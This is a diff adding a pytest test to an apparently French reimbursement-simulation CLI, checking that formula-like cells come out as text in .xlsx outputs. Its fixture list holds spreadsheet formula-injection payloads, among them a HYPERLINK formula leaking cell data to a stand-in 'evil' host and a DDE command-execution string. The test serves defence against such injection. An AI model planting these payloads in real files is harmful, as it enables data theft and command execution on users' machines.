@@ -826,6 +826,40 @@ def test_graphique_sur_le_panier_refuse(tmp_path):
     assert f.read_bytes() == FAMILLE.read_bytes()
 
 
+INJECTIONS = ['=HYPERLINK("http://evil/?"&A1;"clic")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SOMME(A1)", "\t=1"]
+
+
+def test_cellules_qui_commencent_comme_une_formule_restent_du_texte_xlsx(tmp_path):
+    """A cell that starts like a formula (`=`, `+`, `-`, `@`, tab, CR: a statement or a third party's file)
+    is written to the .xlsx outputs (results and --resume-sortie) as a text cell (openpyxl data type « s »),
+    its value unchanged — never a formula. The CSV output copies the cell as it is (documented)."""
+    openpyxl = pytest.importorskip("openpyxl")
+    texte = io.StringIO()
+    w = csv.writer(texte, lineterminator="\n", quoting=csv.QUOTE_ALL)
+    w.writerow(["beneficiaire", "date", "nature", "br", "frais_reels", "dptm", "=1+2"])
+    w.writerows([b, "2025-06-01", "consultation-specialiste", "31.50", "80", "oui", "@x"] for b in INJECTIONS)
+    f = tmp_path / "inject.csv"
+    f.write_text(texte.getvalue(), encoding="utf-8")
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-o", tmp_path / "r.xlsx", "--resume", "beneficiaire",
+                "--resume-sortie", tmp_path / "t.xlsx", "-s"])
+    assert r.exit_code == 0, r.stderr
+    ws = openpyxl.load_workbook(tmp_path / "r.xlsx").active
+    entete = [c.value for c in ws[1]]
+    assert entete[6] == "=1+2" and ws.cell(1, 7).data_type == "s"
+    for i, valeur in enumerate(INJECTIONS, start=2):
+        assert (ws.cell(i, 1).value, ws.cell(i, 1).data_type) == (valeur, "s")
+        assert (ws.cell(i, 7).value, ws.cell(i, 7).data_type) == ("@x", "s")
+        # option 2, consultation de spécialiste DPTM BR 31,50 : SS 70 % × 31,50 − 2 € de PF = 20,05 € (a number)
+        assert ws.cell(i, entete.index("securite_sociale") + 1).value == 20.05
+    formules = [c.coordinate for ligne in ws.iter_rows() for c in ligne if c.data_type == "f"]
+    assert formules == []
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
+    benefs = {c.value: c.data_type for c in ws["A"][1:]}
+    assert benefs and all(t == "s" for t in benefs.values()) and "+1+1" in benefs
+    r = lancer(["lot", f, "-c", "cabinets-dentaires", "-f", "option-2", "-s"])
+    assert r.stdout.splitlines()[1].startswith('"=HYPERLINK(""http://evil/?""&A1;""clic"")","2025-06-01"')
+
+
 # ------------------------------------------------------------------ the kinds of fault, one test each (message, exit code)
 
 ACTE = ["simuler", "cabinets-dentaires", "-f", "option-2", "-n", "consultation-specialiste", "--br", "30", "--date", "2025-06-01",
